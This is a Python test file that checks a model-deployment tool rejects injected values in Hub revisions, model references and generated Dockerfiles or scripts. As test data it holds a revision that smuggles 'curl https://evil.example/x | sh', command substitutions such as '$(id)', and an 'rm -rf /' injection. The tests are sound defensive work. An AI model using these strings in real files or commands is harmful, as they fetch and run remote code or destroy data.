"""Generated files are built from values (issue 22): a Hub revision, repo, tag or file name with a
newline, a quote or `$(...)` is refused where it comes in, cannot be written by a template, and
a Dockerfile that carries one anyway is a finding (SLM-DOCKER-008)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest

from slm_deploy.errors import InputError
from slm_deploy.templating import render
from tests.conftest import ROOT
from tests.hostile import Hostile, serve

HOSTILE_REVISION = "main'\nRUN curl -s https://evil.example/x | sh #"


def cli(tmp_path: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    environ = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("HF_", "OLLAMA_", "SLM_DEPLOY_"))},
        "SLM_DEPLOY_CACHE": str(tmp_path / "cache"),
        "HF_HOME": str(tmp_path / "hf"),
        "NO_PROXY": "*",
        **env,
    }
    return subprocess.run(
        [sys.executable, "-m", "slm_deploy.cli", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=environ,
        check=False,
        timeout=120,
    )


@pytest.mark.parametrize(
    "model",
    ["org/model@main\nRUN id", "org/model@$(id)", "org/модель", "org/model@main`id`", "org/../model", "someone/model:7b;id"],
)
def test_a_hostile_model_reference_is_refused_in_one_line(model: str, tmp_path: Path) -> None:
    runtime = "ollama" if ":" in model else "vllm"
    # Online (a closed port on loopback): the reference is refused before any request is made;
    # before issue 22 `org/модель` reached huggingface_hub and ended in an HFValidationError traceback.
    closed = "http://127.0.0.1:9"
    result = cli(
        tmp_path, "plan", "--model", model, "--runtime", runtime, "--gpu", "l4", HF_ENDPOINT=closed, OLLAMA_REGISTRY=closed
    )
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr.startswith("error: arguments: model: ") and result.stderr.count("\n") == 1
    assert "Traceback" not in result.stderr


def test_a_revision_the_hub_sends_that_is_not_a_commit_never_reaches_a_file(tmp_path: Path) -> None:
    info = {"sha": HOSTILE_REVISION, "siblings": [{"rfilename": "config.json"}]}
    with serve(Hostile("malformed-json", body=json.dumps(info).encode())) as peer:
        result = cli(tmp_path, "plan", "--model", "someorg/some-model", "--gpu", "l4", HF_ENDPOINT=peer.url)
    assert result.returncode == 2
    assert result.stderr == (
        f"error: Hub {peer.host}: sent a revision for someorg/some-model that is not a 40-digit commit: "
        f"{HOSTILE_REVISION!r:.80}\n"
    )


def test_templates_refuse_values_that_would_not_parse_back() -> None:
    values = {
        "base": "vllm/vllm-openai:v0.11.0",
        "repo": "Qwen/Qwen3-8B",
        "model_dir": "/opt/model",
        "uid": 10001,
        "port": 8000,
        "start_period": 600,
        "box_id": "store-0001",
    }
    assert "revision='" + "a" * 40 + "'" in render("Dockerfile.vllm", revision="a" * 40, **values)
    for bad in (HOSTILE_REVISION, "$(id)", "main`id`", "a b"):
        with pytest.raises(InputError, match="cannot be written unquoted"):
            render("Dockerfile.vllm", revision=bad, **values)
    with pytest.raises(InputError, match="holds a control character"):
        render("ollama-fetch.sh", pulls=[("qwen3:4b\nrm -rf /", "qwen3-4b", "/config/Modelfile.qwen3-4b")])


def test_the_review_finds_a_dockerfile_whose_values_do_not_parse_back(tmp_path: Path) -> None:
    """What the generator wrote before issue 22 with a hostile revision: the review passed it."""
    old = (ROOT / "slm_deploy" / "templates" / "Dockerfile.vllm.jinja").read_text().replace(" | word", "")
    env = jinja2.Environment(undefined=jinja2.StrictUndefined, trim_blocks=True, lstrip_blocks=True, keep_trailing_newline=True)
    text = env.from_string(old).render(
        base="vllm/vllm-openai:v0.11.0@sha256:" + "a" * 64,
        repo="Qwen/Qwen3-8B",
        revision=HOSTILE_REVISION,
        model_dir="/opt/model",
        uid=10001,
        port=8000,
        start_period=600,
        box_id="store-0001",
    )
    (tmp_path / "Dockerfile").write_text(text)
    result = cli(tmp_path, "review", str(tmp_path / "Dockerfile"), "--tool", "slm", "--json")
    assert result.returncode == 1, result.stdout + result.stderr
    found = [f for f in json.loads(result.stdout)["findings"] if f["rule"] == "SLM-DOCKER-008"]
    assert found, result.stdout
